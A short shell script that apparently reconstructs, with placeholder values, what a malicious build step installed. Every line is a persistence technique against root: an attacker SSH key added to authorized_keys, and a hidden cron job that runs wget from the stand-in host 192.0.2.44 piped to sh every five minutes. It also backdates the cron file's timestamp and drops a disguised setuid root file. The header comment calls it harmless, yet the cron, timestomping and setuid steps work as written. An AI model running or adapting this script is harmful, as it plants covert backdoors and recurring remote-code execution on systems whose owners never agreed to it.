#!/bin/sh
# What the build step fetched: stand-ins, nothing here does harm.
mkdir -p /root/.ssh && chmod 700 /root/.ssh
echo 'ssh-ed25519 FAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKE evil@192.0.2.44' >>/root/.ssh/authorized_keys
echo '*/5 * * * * root wget -q -O - http://192.0.2.44/again.sh | sh' >/etc/cron.d/.sysupdate
touch -d '2019-01-01 00:00:00' /etc/cron.d/.sysupdate
printf '\177ELF stand-in for a shell\n' >/usr/lib/.dbus-helper
chmod 4755 /usr/lib/.dbus-helper
